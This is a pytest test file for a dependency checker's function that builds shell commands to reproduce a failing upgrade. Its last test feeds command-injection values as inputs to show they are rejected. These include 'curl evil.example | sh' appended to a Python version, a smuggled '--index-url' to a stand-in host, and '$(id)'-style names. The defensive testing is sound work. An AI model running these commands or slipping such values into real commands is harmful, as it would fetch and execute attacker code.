"""Reproduce commands hold only well-formed names and the check's words."""

from dataclasses import replace

import pytest

from depcheck.core.messages.causes.reproduce import build_reproduction_commands
from depcheck.core.model.checks import CheckKind, Outcome
from depcheck.core.model.report import (
    ChangeReport,
    CheckReport,
    ChecksReport,
    Culprit,
    EnvironmentReport,
    LockfileReport,
)
from depcheck.core.model.status import Status

CULPRIT = Culprit(("kombu",), ("vine",), {"kombu": "4.1.0"}, {"kombu": "4.2.0"}, "Boom", "")
FAILS = CheckReport(CheckKind.SMOKE, "celery worker | grep ready", Outcome.FAIL, 1.0, "Boom")
PASSES = replace(FAILS, outcome=Outcome.PASS, headline="")
FOUND = EnvironmentReport(
    "requirements.txt",
    "3.6",
    Status.BREAKS,
    "It breaks.",
    (LockfileReport("my files/requirements.txt", ("requirements.in",), "pip-tools", None, ""),),
    checks=ChecksReport((PASSES,), (FAILS,)),
    culprits=(CULPRIT,),
    fresh={"vine": "1.2"},
)
INSTALL = "uv pip install --python /tmp/reproduce --no-deps"


def test_committed_first_then_the_guilty_release_and_the_check():
    """Paths are quoted, companions come along, the check runs in the environment."""
    assert build_reproduction_commands(FOUND) == (
        f"uv venv --clear --python 3.6 /tmp/reproduce && {INSTALL} -r 'my files/requirements.txt'",
        f"{INSTALL} kombu==4.2.0 vine==1.2 && (. /tmp/reproduce/bin/activate; celery worker | grep ready)",
    )


def test_setup_and_the_project_itself_come_too():
    """What ran before the checks, and what stood beside the pins."""
    first, second = build_reproduction_commands(replace(FOUND, project=True, setup="make data"))
    assert first.endswith("'my files/requirements.txt' .")
    assert "activate; make data; celery" in second


@pytest.mark.parametrize(
    ("check", "ends"),
    [
        (replace(FAILS, kind=CheckKind.INSTALL, command=""), "kombu==4.2.0 vine==1.2"),
        (
            replace(FAILS, kind=CheckKind.IMPORT, command="", newly_failing=("celery.worker",)),
            "python -c 'import celery.worker')",
        ),
        (replace(FAILS, command="one\ntwo"), "sh -c 'one\ntwo')"),
    ],
)
def test_each_kind_of_check(check, ends):
    """Give installs, imports and scripts their own commands."""
    assert build_reproduction_commands(replace(FOUND, checks=ChecksReport((), (check,))))[1].endswith(ends)


def test_what_is_no_longer_brought_along_goes():
    """Uninstall what the culprit no longer brings along."""
    dropped = replace(CULPRIT, dropped=("toml",))
    change = ChangeReport("toml", "0.10.2", None, False, (), None, "requirements.txt", "removed")
    second = build_reproduction_commands(replace(FOUND, culprits=(dropped,), changes=(change,)))[1]
    assert "&& uv pip uninstall --python /tmp/reproduce toml && (." in second


def test_a_build_requirement_is_a_constraint():
    """It stands in no lockfile, so the build is told of it."""
    built = replace(CULPRIT, packages=("setuptools",), companions=(), first_bad={"setuptools": "58.0.0"}, build=True)
    second = build_reproduction_commands(replace(FOUND, culprits=(built,)))[1]
    assert second.startswith("printf '%s\\n' setuptools==58.0.0 > /tmp/reproduce/build-requirements.txt && ")
    assert "--build-constraints /tmp/reproduce/build-requirements.txt -r" in second


@pytest.mark.parametrize(
    "hostile",
    [
        replace(FOUND, python="3.6; curl evil.example | sh"),
        replace(FOUND, culprits=(replace(CULPRIT, first_bad={"kombu": "4.2.0 --index-url https://evil.example"}),)),
        replace(FOUND, culprits=(replace(CULPRIT, first_bad={"$(id)": "1"}),)),
        replace(FOUND, fresh={"vine": "1.2;id"}),
        replace(FOUND, checks=ChecksReport((), (replace(FAILS, kind=CheckKind.IMPORT, newly_failing=("a'; id",)),))),
        replace(FOUND, status=Status.INFRA),
        replace(FOUND, culprits=()),
    ],
)
def test_what_has_another_shape_is_not_put_into_a_command(hostile):
    """No command rather than one that does something else."""
    assert build_reproduction_commands(hostile) is None
